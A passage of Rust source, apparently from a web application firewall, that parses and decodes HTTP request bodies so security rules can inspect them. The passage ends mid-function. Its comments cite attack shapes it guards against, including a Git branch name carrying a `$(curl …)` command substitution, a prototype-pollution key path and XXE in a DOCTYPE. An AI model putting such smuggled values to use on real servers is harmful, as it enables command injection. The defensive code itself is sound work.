//! Body parsers: urlencoded, JSON, XML, multipart/form-data, GraphQL string literals.
//!
//! Each parser turns the body into named values on the [`InspectedRequest`]. They are bounded
//! (arguments, depth, parts) and tolerant: a body that fails to parse is inspected as raw
//! bytes (the caller adds it as one argument), never skipped. The raw body is always also
//! available to rules that target `BODY` (XXE rules look at the DOCTYPE, which no parser
//! turns into a value).

use std::borrow::Cow;
use std::fmt::Write as _;

use serde_json::Value as Json;

use crate::request::{
    parse_pairs, Anomaly, BodyBytes, InspectedRequest, Origin, Part, MAX_SPAN_BYTES,
};

/// What [`parse`] made of a body.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Parsed {
    /// Not turned into arguments (unknown type or a parse failure): the caller inspects it
    /// raw, as an argument too.
    Raw,
    /// Parsed, but the body holds more than its arguments (XML markup and DOCTYPE, multipart
    /// part headers, binary media, JSON keys' nesting).
    Structured,
    /// A urlencoded form: every byte of it is in an argument name or value (each name
    /// whole, `a[b][c]`), unless an argument limit cut it short (the caller checks
    /// [`Anomaly::TooManyArgs`]).
    AllArguments,
}

/// Parses the body by content type. `body` is the request's body (the caller holds it while
/// the parsers add items).
pub(crate) fn parse(
    req: &mut InspectedRequest,
    body: &[u8],
    content_type: Option<&[u8]>,
) -> Parsed {
    let ct = content_type
        .map(String::from_utf8_lossy)
        .unwrap_or_default();
    // Lowercased, copied only when it has capitals.
    let ct = if ct.bytes().any(|b| b.is_ascii_uppercase()) {
        Cow::Owned(ct.to_ascii_lowercase())
    } else {
        ct
    };
    let mime = ct.split(';').next().unwrap_or_default().trim();
    if mime == "application/x-www-form-urlencoded" {
        // An XML document sent with a form's type (Cisco AnyConnect's `config-auth`, Huawei
        // HiLink's API, many device UIs): a form parse would cut it at its `=` and `&` into
        // names made of markup. It is read as XML when it is well-formed XML, and as a form
        // otherwise.
        if looks_like_xml(body) && xml_well_formed(body, req.limits().max_depth) {
            return structured(parse_xml(req, body));
        }
        // A JSON document sent with a form's type (a client that kept the default header; PHP
        // reads `php://input` and decodes it whatever the type): read as JSON when it is
        // JSON, not cut at its `=` and `&` into names.
        if may_hold_json_bytes(body) && json_tape(body).is_some() {
            return structured(parse_json_document(req, body, true));
        }
        return all_arguments(parse_form(req, body));
    }
    if matches!(
        mime,
        "application/json"
            | "text/json"
            | "application/x-json"
            | "application/json-rpc"
            | "application/jsonrequest"
            | "application/x-amz-json-1.0"
            | "application/x-amz-json-1.1"
    ) || mime.ends_with("+json")
    {
        // Every byte is in a value or a key too, but a key reaches `ARGS_NAMES` without its
        // parents: a path across keys (`{"constructor": {"prototype": …}}`) is only seen in
        // the body whole, which is judged as the document's skeleton when every value of it
        // was pushed (see [`json_skeleton`]).
        return structured(parse_json_document(req, body, true));
    }
    if matches!(
        mime,
        "application/x-ndjson"
            | "application/ndjson"
            | "application/jsonl"
            | "application/x-jsonl"
            | "application/jsonlines"
            | "application/x-jsonlines"
            | "application/json-seq"
    ) {
        return structured(parse_json_lines(req, body));
    }
    // Apple's property lists (MDM check-ins, configuration profiles) are XML too, unless
    // binary (`bplist00`).
    let plist = matches!(
        mime,
        "application/x-plist"
            | "application/x-apple-plist"
            | "application/x-apple-aspen-mdm-checkin"
            | "application/x-apple-aspen-mdm"
    ) && looks_like_xml(body);
    if mime == "application/xml" || mime == "text/xml" || mime.ends_with("+xml") || plist {
        // A JSON document sent with an XML type (Zimbra's web client posts its JSON SOAP as
        // `application/soap+xml`): the XML scanner would make text nodes of its strings cut
        // at every `<`. It is read as JSON when it is JSON.
        if matches!(body.trim_ascii_start().first(), Some(b'{' | b'[')) && json_tape(body).is_some()
        {
            return structured(parse_json_document(req, body, true));
        }
        return structured(parse_xml(req, body));
    }
    // Every multipart kind: forms, batches (`mixed`), `related`, `alternative`, and the MIME
    // entities of mail and EDI transports (AS2's `signed`, `encrypted` and `report`).
    if mime.starts_with("multipart/") {
        let form = mime == "multipart/form-data";
        // Boundary case matters: take it from the original header, not the lowercased copy.
        let original = req
            .header("content-type")
            .map(|c| String::from_utf8_lossy(c).into_owned())
            .unwrap_or_else(|| ct.to_string());
        return structured(parse_multipart(req, &original, body, form, 0));
    }
    if mime == "application/x-git-receive-pack-request" {
        git_commands(req, body);
    }
    if is_binary(mime) {
        // Binary media (gRPC, protobuf, images, archives): not text arguments. Rules that
        // target `BODY` still see the bytes.
        return Parsed::Structured;
    }
    if mime == "application/graphql" {
        let _ = graphql_strings(req, "query", body);
        return Parsed::Raw;
    }
    // A table or a calendar sent as the body (a WebDAV or CalDAV `PUT`): inspected raw, and
    // its cells or property values one by one.
    if let Some(kind) = records_kind(Some(mime), b"") {
        push_records(req, Origin::Records, "", kind, body);
        return Parsed::Raw;
    }
    // No content type, text/plain or unknown: a JSON or form body sent without the right
    // header is still parsed when it clearly is one, and inspected raw as well.
    if body.first() == Some(&b'{') || body.first() == Some(&b'[') {
        let _ = parse_json(req, body);
    }
    Parsed::Raw
}

/// What [`decode_content`] made of a body.
#[derive(Debug, PartialEq, Eq)]
pub(crate) enum Decoded {
    /// No `Content-Encoding` (or only `identity`): the body is inspected as it is.
    Identity,
    /// The decoded body, at most `max` bytes; `cut` when it would have been longer.
    Bytes { body: Vec<u8>, cut: bool },
    /// The body cannot be decoded; it is inspected as received and the anomaly recorded.
    Failed(Anomaly),
}

/// The byte order of a UTF-16 body.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Utf16 {
    Le,
    Be,
}

impl Utf16 {
    pub(crate) fn name(self) -> &'static str {
        match self {
            Utf16::Le => "utf-16le",
            Utf16::Be => "utf-16be",
        }
    }
}

/// Whether a text body is UTF-16, and in which byte order: from a byte-order mark; else from
/// the `charset` its Content-Type declares (`utf-16le`, `utf-16be`, `utf-16`); else from the
/// NUL bytes of its first code units, where text that starts with ASCII (JSON, XML, a form)
/// has one in every unit (RFC 4627 §3; Jackson, .NET and XML parsers read it so). `Err` when
/// the charset says UTF-16 and the bytes are not: an application that ignores the charset
/// reads other text than one that honours it. (UTF-32 is not transcoded: its NUL bytes and
/// charset keep it refused.)
pub(crate) fn utf16_order(
    content_type: Option<&[u8]>,
    body: &[u8],
) -> Result<Option<Utf16>, Anomaly> {
    let bom = match body {
        [0xff, 0xfe, 0, 0, ..] => None,
        [0xff, 0xfe, ..] => Some(Utf16::Le),
        [0xfe, 0xff, ..] => Some(Utf16::Be),
        _ => None,
    };
    let seen = bom.or_else(|| nul_pattern(body));
    let ct = content_type
        .map(String::from_utf8_lossy)
        .unwrap_or_default()
        .to_ascii_lowercase();
    // (Read as `bad-charset` reads it; it refuses a Content-Type with more than one.)
    let declared = match crate::detect::charsets(&ct).as_slice() {
        ["utf-16le"] => Some(Some(Utf16::Le)),
        ["utf-16be"] => Some(Some(Utf16::Be)),
        ["utf-16"] => Some(None),
        _ => None,
    };
    match declared {
        None => Ok(seen),
        Some(_) if body.is_empty() => Ok(None),
        Some(Some(order)) if seen == Some(order) => Ok(Some(order)),
        Some(None) if seen.is_some() => Ok(seen),
        Some(_) => Err(Anomaly::CharsetMismatch),
    }
}

/// The byte order whose high bytes are NUL in the body's first code units (up to 64): at
/// least half of them, and at most an eighth of the low bytes (text that starts with ASCII).
fn nul_pattern(body: &[u8]) -> Option<Utf16> {
    let units = body.chunks_exact(2).take(64);
    let n = units.len();
    if n < 2 {
        return None;
    }
    let (mut first_zero, mut second_zero) = (0, 0);
    for u in units {
        first_zero += usize::from(u.first() == Some(&0));
        second_zero += usize::from(u.get(1) == Some(&0));
    }
    if second_zero * 2 >= n && first_zero * 8 <= n {
        Some(Utf16::Le)
    } else if first_zero * 2 >= n && second_zero * 8 <= n {
        Some(Utf16::Be)
    } else {
        None
    }
}

/// UTF-16 text as UTF-8: a leading byte-order mark dropped, unpaired surrogates as U+FFFD,
/// an odd last byte (a body cut short) dropped.
pub(crate) fn utf16_to_utf8(body: &[u8], order: Utf16) -> Vec<u8> {
    let units = body.chunks_exact(2).map(|u| match (u, order) {
        ([a, b], Utf16::Le) => u16::from_le_bytes([*a, *b]),
        ([a, b], Utf16::Be) => u16::from_be_bytes([*a, *b]),
        _ => 0xfffd,
    });
    let mut out = String::with_capacity(body.len() / 2 + 16);
    for c in char::decode_utf16(units) {
        out.push(c.unwrap_or(char::REPLACEMENT_CHARACTER));
    }
    let text = out.strip_prefix('\u{feff}').unwrap_or(&out);
    text.as_bytes().to_vec()
}

/// Content codings applied one over the other, at most.
const MAX_CODINGS: usize = 3;

/// Decodes a body sent with `Content-Encoding` (every value of every such header, codings
/// applied in the order listed, so decoded in reverse): `gzip` / `x-gzip` (every member of a
/// multi-member stream, as Go's and Node's readers do) and `deflate` (zlib-wrapped as RFC
/// 9110 says, or raw as some clients send it). Output is bounded by `max` bytes at every
/// stage, so a compression bomb costs no more than inflating `max` bytes. A stream that ends
/// early is accepted when the body itself was `truncated` (only its start was read).
pub(crate) fn decode_content<'h>(
    headers: impl Iterator<Item = &'h [u8]>,
    body: &[u8],
    truncated: bool,
    max: usize,
) -> Decoded {
    if body.is_empty() {
        return Decoded::Identity;
    }
    #[derive(Clone, Copy)]
    enum Coding {
        Gzip,
        Deflate,
        Snappy,
        AwsChunked,
    }
    let mut codings = Vec::new();
    for value in headers {
        for c in value.split(|&b| b == b',') {
            let c = c.trim_ascii();
            let coding = if c.is_empty() || c.eq_ignore_ascii_case(b"identity") {
                continue;
            } else if c.eq_ignore_ascii_case(b"gzip") || c.eq_ignore_ascii_case(b"x-gzip") {
                Coding::Gzip
            } else if c.eq_ignore_ascii_case(b"deflate") {
                Coding::Deflate
            } else if c.eq_ignore_ascii_case(b"snappy") {
                Coding::Snappy
            } else if c.eq_ignore_ascii_case(b"aws-chunked") {
                Coding::AwsChunked
            } else {
                return Decoded::Failed(Anomaly::EncodingUnsupported);
            };
            if codings.len() == MAX_CODINGS {
                return Decoded::Failed(Anomaly::EncodingUnsupported);
            }
            codings.push(coding);
        }
    }
    if codings.is_empty() {
        return Decoded::Identity;
    }
    let mut data = Cow::Borrowed(body);
    let mut cut = false;
    for coding in codings.into_iter().rev() {
        // Each coding gives its output and whether more was cut off; `None` is a body that is
        // not the coding its header says. (The `bufread` decoders read the slice in place: no
        // intermediate buffer.)
        let decoded = match coding {
            Coding::Gzip => inflate(
                flate2::bufread::MultiGzDecoder::new(&*data),
                data.len(),
                max,
                truncated,
            ),
            Coding::Deflate if is_zlib(&data) => inflate(
                flate2::bufread::ZlibDecoder::new(&*data),
                data.len(),
                max,
                truncated,
            ),
            Coding::Deflate => inflate(
                flate2::bufread::DeflateDecoder::new(&*data),
                data.len(),
                max,
                truncated,
            ),
            Coding::Snappy => unsnappy(&data, max, truncated),
            // S3's streaming uploads (SigV4 `STREAMING-…-PAYLOAD`, sent by every AWS SDK and
            // to MinIO and Ceph alike): chunk framing inside the body, a signature extension
            // on each size line, trailers after the last chunk.
            Coding::AwsChunked => {
                let d = crate::httpraw::dechunk(&data, max);
                (d.valid || truncated).then(|| {
                    let more = d.len > d.body.len() as u64;
                    (d.body, more)
                })
            }
        };
        let Some((out, more)) = decoded else {
            return Decoded::Failed(Anomaly::EncodingInvalid);
        };
        data = Cow::Owned(out);
        cut |= more;
    }
    Decoded::Bytes {
        body: data.into_owned(),
        cut,
    }
}

/// Decodes a Snappy block (the `snappy` content coding of Prometheus remote-write and Loki
/// push requests: a varint length, then literals and back-references), at most `max` bytes
/// of output, and whether there was more. `None` for a malformed block (a reference before the
/// start, a length that does not match), unless `truncated` (the body was cut and the block
/// ends early).
fn unsnappy(data: &[u8], max: usize, truncated: bool) -> Option<(Vec<u8>, bool)> {
    let mut i = 0usize;
    let mut declared = 0u64;
    for shift in (0..35).step_by(7) {
        let b = *data.get(i)?;
        i += 1;
        declared |= u64::from(b & 0x7f) << shift;
        if b & 0x80 == 0 {
            break;
        }
    }
    let declared = usize::try_from(declared).ok()?;
    let mut out: Vec<u8> = Vec::with_capacity(declared.min(max));
    // Little-endian bytes `data[at..at + n]`.
    let le = |at: usize, n: usize| -> Option<usize> {
        let b = data.get(at..at + n)?;
        Some(b.iter().rev().fold(0usize, |v, &x| v << 8 | usize::from(x)))
    };
    while let Some(&tag) = data.get(i) {
        if out.len() >= max {
            return Some((out, true));
        }
        i += 1;
        let (len, offset) = match tag & 3 {
            0 => {
                let mut len = usize::from(tag >> 2) + 1;
                if len > 60 {
                    let n = len - 60;
                    len = le(i, n).or(truncated.then_some(0))? + 1;
                    i += n;
                }
                let end = i.saturating_add(len);
                let lit = match data.get(i..end) {
                    Some(l) => l,
                    None if truncated => data.get(i..).unwrap_or_default(),
                    None => return None,
                };
                let room = max - out.len();
                out.extend_from_slice(lit.get(..room.min(lit.len())).unwrap_or_default());
                i = end;
                continue;
            }
            1 => {
                let off = usize::from(tag >> 5) << 8 | usize::from(*data.get(i)?);
                i += 1;
                (4 + usize::from(tag >> 2 & 7), off)
            }
            2 => {
                let off = le(i, 2)?;
                i += 2;
                (1 + usize::from(tag >> 2), off)
            }
            _ => {
                let off = le(i, 4)?;
                i += 4;
                (1 + usize::from(tag >> 2), off)
            }
        };
        if offset == 0 || offset > out.len() {
            return None;
        }
        // Byte by byte: a reference may overlap what it writes (a run).
        let start = out.len() - offset;
        for k in 0..len.min(max - out.len()) {
            let b = *out.get(start + k)?;
            out.push(b);
        }
    }
    if out.len() != declared && !truncated && out.len() < max {
        return None;
    }
    Some((out, declared > max))
}

/// Whether `data` starts with a zlib header (RFC 1950: method 8, check bits).
fn is_zlib(data: &[u8]) -> bool {
    match data {
        [cmf, flg, ..] => cmf & 0x0f == 8 && (u16::from(*cmf) << 8 | u16::from(*flg)) % 31 == 0,
        _ => false,
    }
}

/// Reads a decoder to its end or to `max` bytes: the bytes and whether more would follow;
/// `None` when the stream is corrupt or ends early, unless `truncated` says the body was cut
/// (then what decoded before the end is kept).
/// (`input` is the compressed length: room for four times as much is made up front, which
/// most text needs, instead of growing from nothing.)
fn inflate(
    decoder: impl std::io::Read,
    input: usize,
    max: usize,
    truncated: bool,
) -> Option<(Vec<u8>, bool)> {
    use std::io::Read as _;
    let mut out = Vec::with_capacity(input.saturating_mul(4).clamp(256, max.saturating_add(1)));
    let limit = u64::try_from(max).unwrap_or(u64::MAX).saturating_add(1);
    if decoder.take(limit).read_to_end(&mut out).is_err() && !truncated {
        return None;
    }
    let more = out.len() > max;
    out.truncate(max);
    Some((out, more))
}

fn all_arguments(ok: bool) -> Parsed {
    if ok {
        Parsed::AllArguments
    } else {
        Parsed::Raw
    }
}

fn structured(ok: bool) -> Parsed {
    if ok {
        Parsed::Structured
    } else {
        Parsed::Raw
    }
}

/// Whether a body of this content type may carry binary data: `Some(true)` for a multipart
/// form (file uploads), `Some(false)` for a binary media type, `None` for text. Such bodies
/// are not inspected byte for byte by text rules when they hold binary bytes (see
/// `InspectedRequest::split_binary_body`).
pub(crate) fn carries_binary(content_type: Option<&[u8]>) -> Option<bool> {
    let ct = String::from_utf8_lossy(content_type?).to_ascii_lowercase();
    let mime = ct.split(';').next().unwrap_or_default().trim();
    if mime.starts_with("multipart/") {
        Some(true)
    } else if is_binary(mime) {
        Some(false)
    } else {
        None
    }
}

/// Media types whose bodies are binary encodings, not text an injection would be read from.
fn is_binary(mime: &str) -> bool {
    let (top, sub) = mime.split_once('/').unwrap_or((mime, ""));
    matches!(top, "image" | "audio" | "video" | "font")
        || sub.starts_with("grpc")
        || sub.starts_with("vnd.openxmlformats-officedocument.")
        || sub.starts_with("vnd.oasis.opendocument.")
        || matches!(
            sub,
            "octet-stream"
                // tus resumable uploads' PATCH bodies (the file's bytes from an offset)
                | "offset+octet-stream"
                // ActiveSync and WAP's binary XML
                | "vnd.ms-sync.wbxml"
                | "vnd.wap.wbxml"
                // Office documents uploaded raw (ZIP containers and OLE files)
                | "msword"
                | "vnd.ms-excel"
                | "vnd.ms-powerpoint"
                | "x-protobuf"
                | "protobuf"
                | "zip"
                | "gzip"
                | "x-tar"
                | "pdf"
                | "x-msgpack"
                | "msgpack"
                | "cbor"
                | "x-7z-compressed"
                | "wasm"
                // Archives and packages: what a package registry or an artifact
                // repository is sent (Maven's `.jar`, conda's `.tar.bz2`, `.deb`, `.rpm`)
                | "java-archive"
                | "x-java-archive"
                | "x-bzip2"
                | "x-bzip"
                | "x-xz"
                | "zstd"
                | "x-zstd"
                | "x-lzma"
                | "x-gtar"
                | "vnd.rar"
                | "x-rar-compressed"
                | "x-rpm"
                | "vnd.debian.binary-package"
                | "vnd.android.package-archive"
                | "x-msdownload"
                | "x-executable"
                // Git's smart HTTP: pkt-lines, then a packfile
                | "x-git-upload-pack-request"
                | "x-git-receive-pack-request"
        )
}

// === Git ===

/// The most ref updates read from one push.
const GIT_MAX_COMMANDS: usize = 1000;

/// The ref updates at the start of a `git push` over smart HTTP (`git-receive-pack`): pkt-lines
/// (four hex digits of length, then the line) of `OLD-ID NEW-ID REFNAME`, the first with a NUL
/// and the client's capabilities, up to a flush (`0000`); the packfile (binary) follows. Each
/// ref name is an argument, `BODY:records.git.ref` (servers hand them to hooks and shell
/// scripts: a branch named `$(curl …)`), and so are the capabilities
/// (`BODY:records.git.capabilities`). The body itself is a binary upload.
fn git_commands(req: &mut InspectedRequest, body: &[u8]) {
    let mut at = 0;
    for _ in 0..GIT_MAX_COMMANDS {
        let Some(len) = body
            .get(at..at + 4)
            .and_then(|h| std::str::from_utf8(h).ok())
            .and_then(|h| usize::from_str_radix(h, 16).ok())
        else {
            return;
        };
        // A flush, or no pkt-line at all.
        if len < 4 {
            return;
        }
        let Some(line) = body.get(at + 4..at + len) else {
            return;
        };
        at += len;
        let line = line.strip_suffix(b"\n").unwrap_or(line);
        let (command, capabilities) = match memchr::memchr(0, line) {
            Some(nul) => (
                line.get(..nul).unwrap_or_default(),
                line.get(nul + 1..).unwrap_or_default(),
            ),
            None => (line, &[][..]),
        };
        let mut fields = command.splitn(3, |&b| b == b' ');
        let (Some(_old), Some(_new), Some(name)) = (fields.next(), fields.next(), fields.next())
        else {
            return;
        };
        if !req.push_body_arg(Origin::Records, "git.ref", Some(b"ref"), name) {
            return;
        }
        if !capabilities.is_empty()
            && !req.push_body_arg(
                Origin::Records,
                "git.capabilities",
                Some(b"capabilities"),
                capabilities,
            )
        {
            return;
        }
    }
}

// === urlencoded ===

fn parse_form(req: &mut InspectedRequest, body: &[u8]) -> bool {
    // A form never holds raw control characters other than whitespace; binary bodies
    // mislabelled as forms are inspected raw instead.
    if body
        .iter()
        .any(|&b| b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r'))
    {
        req.add_anomaly(Anomaly::FormInvalid);
        return false;
    }
    for (name, value) in parse_pairs(body, b'&') {
        let name = String::from_utf8_lossy(&name).into_owned();
        let key = name.as_bytes().to_vec();
        if !req.push_body_arg(Origin::Form, &name, Some(&key), &value) {
            break;
        }
        if !json_in_field(req, Origin::Form, &name, &value)
            || !xml_in_field(req, Origin::Form, &name, &value)
        {
            break;
        }
    }
    true
}

// === JSON ===
//
// The document is read by a scanner that accepts exactly what `serde_json::from_slice` accepts
// (the JSON grammar, its whitespace set, its 128-level recursion limit, strings without raw
// control characters, `\u` escapes with paired surrogates, UTF-8 throughout) into a flat tape
// of tokens that borrows every string without escapes, and every integer written the way
// serde_json would print it, from the body, instead of a `serde_json::Value` tree (one
// allocation per string, one B-tree per object). Any other number is handed to serde_json
// itself, so its range checks, float parsing and printing stay serde_json's. The walk over the
// tape then yields the leaves in the order a `Value` would: object keys sorted bytewise, a
// repeated key holding its last value (`serde_json::Map` is a `BTreeMap` without the
// `preserve_order` feature). `json_tape_matches_value_walk` checks scanner and walk together
// against the `Value` walk. Nothing is pushed before the whole document has parsed, so invalid
// JSON is still inspected raw and only raw.

/// One token of a parsed JSON document, in document order.
enum Tok<'a> {
    /// An object: the index one past its last token, and where its bytes (braces included)
    /// lie in the text. Followed by key, value pairs.
    Obj(usize, std::ops::Range<usize>),
    /// An array: the index one past its last token, and where its bytes lie. Followed by its
    /// elements.
    Arr(usize, std::ops::Range<usize>),
    Key(Cow<'a, str>),
    /// A string value, and where its content (between the quotes, as sent) lies in the body.
    Str(Cow<'a, str>, std::ops::Range<usize>),
    /// An integer of at most 18 digits without a leading zero (and not `-0`): serde_json
    /// prints it as written, so its text is the value.
    Int(&'a str),
    /// A decimal serde_json prints as written (see [`is_shortest_decimal`]): its text.
    Dec(&'a str),
    /// Any other number, as serde_json parsed it.
    Num(serde_json::Number),
    Bool(bool),
    Null,
}

/// serde_json's recursion limit: its 128th nested array or object is an error.
const JSON_MAX_NESTING: usize = 127;

/// Reads one JSON document into a tape. `None` whenever serde_json would refuse it.
struct Scanner<'a> {
    text: &'a str,
    at: usize,
    tape: Vec<Tok<'a>>,
}

impl<'a> Scanner<'a> {
    fn peek(&self) -> Option<u8> {
        self.text.as_bytes().get(self.at).copied()
    }

    fn skip_ws(&mut self) {
        while matches!(self.peek(), Some(b' ' | b'\n' | b'\t' | b'\r')) {
            self.at += 1;
        }
    }

    fn eat(&mut self, lit: &str) -> Option<()> {
        let rest = self.text.as_bytes().get(self.at..)?;
        if rest.starts_with(lit.as_bytes()) {
            self.at += lit.len();
            Some(())
        } else {
            None
        }
    }

    /// A value, whitespace before it skipped; `nesting` containers are open around it.
    fn value(&mut self, nesting: usize) -> Option<()> {
        self.skip_ws();
        match self.peek()? {
            b'{' => self.object(nesting + 1),
            b'[' => self.array(nesting + 1),
            b'"' => {
                let start = self.at + 1;
                let s = self.string()?;
                // (`string` stops past the closing quote.)
                self.tape.push(Tok::Str(s, start..self.at - 1));
                Some(())
            }
            b'n' => {
                self.eat("null")?;
                self.tape.push(Tok::Null);
                Some(())
            }
            b't' => {
                self.eat("true")?;
                self.tape.push(Tok::Bool(true));
                Some(())
            }
            b'f' => {
                self.eat("false")?;
                self.tape.push(Tok::Bool(false));
                Some(())
            }
            b'-' | b'0'..=b'9' => self.number(),
            _ => None,
        }
    }

    fn array(&mut self, nesting: usize) -> Option<()> {
        if nesting > JSON_MAX_NESTING {
            return None;
        }
        let start = self.at;
        self.at += 1;
        let at = self.tape.len();
        self.tape.push(Tok::Arr(0, 0..0));
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.at += 1;
        } else {
            loop {
                self.value(nesting)?;
                if !self.more(b']')? {
                    break;
                }
            }
        }
        let end = self.tape.len();
        *self.tape.get_mut(at)? = Tok::Arr(end, start..self.at);
        Some(())
    }

    fn object(&mut self, nesting: usize) -> Option<()> {
        if nesting > JSON_MAX_NESTING {
            return None;
        }
        let start = self.at;
        self.at += 1;
        let at = self.tape.len();
        self.tape.push(Tok::Obj(0, 0..0));
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.at += 1;
        } else {
            loop {
                self.skip_ws();
                if self.peek()? != b'"' {
                    return None;
                }
                let key = self.string()?;
                self.tape.push(Tok::Key(key));
                self.skip_ws();
                self.eat(":")?;
                self.value(nesting)?;
                if !self.more(b'}')? {
                    break;
                }
            }
        }
        let end = self.tape.len();
        *self.tape.get_mut(at)? = Tok::Obj(end, start..self.at);
        Some(())
    }

    /// After a member of an array or object: a `,` (more follow: `true`) or the `close` byte
    /// (`false`), consumed; anything else is invalid.
    fn more(&mut self, close: u8) -> Option<bool> {
        self.skip_ws();
        let more = match self.peek()? {
            b',' => true,
            b if b == close => false,
            _ => return None,
        };
        self.at += 1;
        Some(more)
    }

    /// The string whose opening quote is at `self.at`: borrowed when it has no escapes.
    fn string(&mut self) -> Option<Cow<'a, str>> {
        let bytes = self.text.as_bytes();
        self.at += 1;
        let mut owned: Option<String> = None;
        loop {
            let rest = bytes.get(self.at..)?;
            let stop = run_end(rest)?;
            let start = self.at;
            self.at += stop + 1;
            // A quote or backslash is ASCII, so both ends are character boundaries.
            let run = self.text.get(start..start + stop)?;
            if rest.get(stop) == Some(&b'"') {
                return Some(match owned {
                    None => Cow::Borrowed(run),
                    Some(mut s) => {
                        s.push_str(run);
                        Cow::Owned(s)
                    }
                });
            }
            let s = owned.get_or_insert_with(String::new);
            s.push_str(run);
            self.escape(s)?;
        }
    }

    /// One escape, its backslash already read, decoded onto `out`.
    fn escape(&mut self, out: &mut String) -> Option<()> {
        let c = self.peek()?;
        self.at += 1;
        let ch = match c {
            b'"' => '"',
            b'\\' => '\\',
            b'/' => '/',
            b'b' => '\u{8}',
            b'f' => '\u{c}',
            b'n' => '\n',
            b'r' => '\r',
            b't' => '\t',
            b'u' => {
                let n = self.hex4()?;
                match n {
                    // A trailing surrogate first, or a leading one not followed by a
                    // trailing one: serde_json refuses both in a string.
                    0xDC00..=0xDFFF => return None,
                    0xD800..=0xDBFF => {
                        self.eat("\\u")?;
                        let n2 = self.hex4()?;
                        if !(0xDC00..=0xDFFF).contains(&n2) {
                            return None;
                        }
                        let c = (((n - 0xD800) << 10) | (n2 - 0xDC00)) + 0x1_0000;
                        char::from_u32(c)?
                    }
                    n => char::from_u32(n)?,
                }
            }
            _ => return None,
        };
        out.push(ch);
        Some(())
    }

    fn hex4(&mut self) -> Option<u32> {
        let h = self.text.as_bytes().get(self.at..self.at + 4)?;
        let mut n = 0u32;
        for &b in h {
            n = n * 16 + char::from(b).to_digit(16)?;
        }
        self.at += 4;
        Some(n)
    }

    /// A number: the JSON grammar checked here; an integer serde_json prints as written is
    /// kept as text, any other is parsed by serde_json (which may refuse it, e.g. `1e400`).
    fn number(&mut self) -> Option<()> {
        let bytes = self.text.as_bytes();
        let start = self.at;
        let digits = |at: usize| {
            bytes
                .get(at..)
                .map_or(0, |r| r.iter().take_while(|b| b.is_ascii_digit()).count())
        };
        let mut i = start + usize::from(bytes.get(start) == Some(&b'-'));
        let int = digits(i);
        if int == 0 || (int > 1 && bytes.get(i) == Some(&b'0')) {
            return None;
        }
        let leading_zero = bytes.get(i) == Some(&b'0');
        i += int;
        let mut plain = true;
        let mut fraction: &[u8] = &[];
        if bytes.get(i) == Some(&b'.') {
            let frac = digits(i + 1);
            if frac == 0 {
                return None;
            }
            fraction = bytes.get(i + 1..i + 1 + frac)?;
            i += 1 + frac;
            plain = false;
        }
        let exponent = matches!(bytes.get(i), Some(b'e' | b'E'));
        if exponent {
            i += 1;
            if matches!(bytes.get(i), Some(b'+' | b'-')) {
                i += 1;
            }
            let exp = digits(i);
            if exp == 0 {
                return None;
            }
            i += exp;
            plain = false;
        }
        let text = self.text.get(start..i)?;
        self.at = i;
        if plain && int <= 18 && (!leading_zero || text == "0") {
            self.tape.push(Tok::Int(text));
            return Some(());
        }
        if !exponent && is_shortest_decimal(int, fraction, leading_zero) {
            self.tape.push(Tok::Dec(text));
            return Some(());
        }
        match serde_json::from_str::<Json>(text).ok()? {
            Json::Number(n) => self.tape.push(Tok::Num(n)),
            _ => self.tape.push(Tok::Null),
        }
        Some(())
    }
}

/// Whether a decimal without exponent, of `int` integer digits (`0` alone when
/// `leading_zero`) and the fraction digits `fraction`, is what serde_json prints for the
/// double it parses to: at most 15 significant digits (so no other decimal of as few digits
/// reads as the same double, and the shortest text that does is this one), at least 0.1 and
/// below 10^15 (printed without an exponent), and no trailing zero in the fraction. Prices
/// and coordinates take this way instead of a parse and a print
/// (`json_decimals_print_as_written`).
fn is_shortest_decimal(int: usize, fraction: &[u8], leading_zero: bool) -> bool {
    !fraction.is_empty()
        && int + fraction.len() <= 15
        && fraction.last() != Some(&b'0')
        && (!leading_zero || fraction.first() != Some(&b'0'))
}

/// Length of the plain run of string content at the start of `rest`: up to the first quote
/// or backslash. `None` when there is none, or a raw control character (which serde_json
/// refuses in strings) comes first. Eight bytes at a time.
fn run_end(rest: &[u8]) -> Option<usize> {
    const ONES: u64 = 0x0101_0101_0101_0101;
    const HIGH: u64 = 0x8080_8080_8080_8080;
    const LOW: u64 = 0x2020_2020_2020_2020;
    const QUOTE: u64 = 0x2222_2222_2222_2222;
    const BACKSLASH: u64 = 0x5c5c_5c5c_5c5c_5c5c;
    let stop = |b: u8| b == b'"' || b == b'\\' || b < 0x20;
    let mut at = 0;
    let mut chunks = rest.chunks_exact(8);
    for c in &mut chunks {
        let mut w = [0u8; 8];
        w.copy_from_slice(c);
        let x = u64::from_le_bytes(w);
        let (q, b) = (x ^ QUOTE, x ^ BACKSLASH);
        // The lowest flagged byte of each test is exact (borrows only run upwards from a
        // byte that passes it), so the lowest flagged byte of all is the first stop.
        let hit = ((q.wrapping_sub(ONES) & !q)
            | (b.wrapping_sub(ONES) & !b)
            | (x.wrapping_sub(LOW) & !x))
            & HIGH;
        if hit != 0 {
            let k = at + (hit.trailing_zeros() / 8) as usize;
            return rest.get(k).and_then(|&b| (b >= 0x20).then_some(k));
        }
        at += 8;
    }
    let k = at + chunks.remainder().iter().position(|&b| stop(b))?;
    rest.get(k).and_then(|&b| (b >= 0x20).then_some(k))
}

/// Parses `body` into a tape exactly as `serde_json::from_slice::<Value>` accepts it.
fn json_tape(body: &[u8]) -> Option<Vec<Tok<'_>>> {
    // Bytes that are not UTF-8 are an error wherever they stand: inside a string serde_json
    // checks them, outside one no byte of the grammar is above 0x7F.
    let text = std::str::from_utf8(body).ok()?;
    let mut s = Scanner {
        text,
        at: 0,
        // Most JSON bodies take a token per 6–20 bytes (an order of short fields: one per
        // 10): room for one per 6 up front, as growing the tape copies all of it.
        tape: Vec::with_capacity(body.len() / 6 + 4),
    };
    s.value(0)?;
    s.skip_ws();
    (s.at == body.len()).then_some(s.tape)
}

/// The index just past the value that starts at `i`.
fn tape_next(tape: &[Tok<'_>], i: usize) -> usize {
    match tape.get(i) {
        Some(Tok::Obj(end, _) | Tok::Arr(end, _)) => *end,
        _ => i + 1,
    }
}

/// The value at `i` as a `serde_json::Value` (only for values past the depth bound, which are
/// inspected as their JSON text).
fn tape_value(tape: &[Tok<'_>], i: usize) -> Json {
    match tape.get(i) {
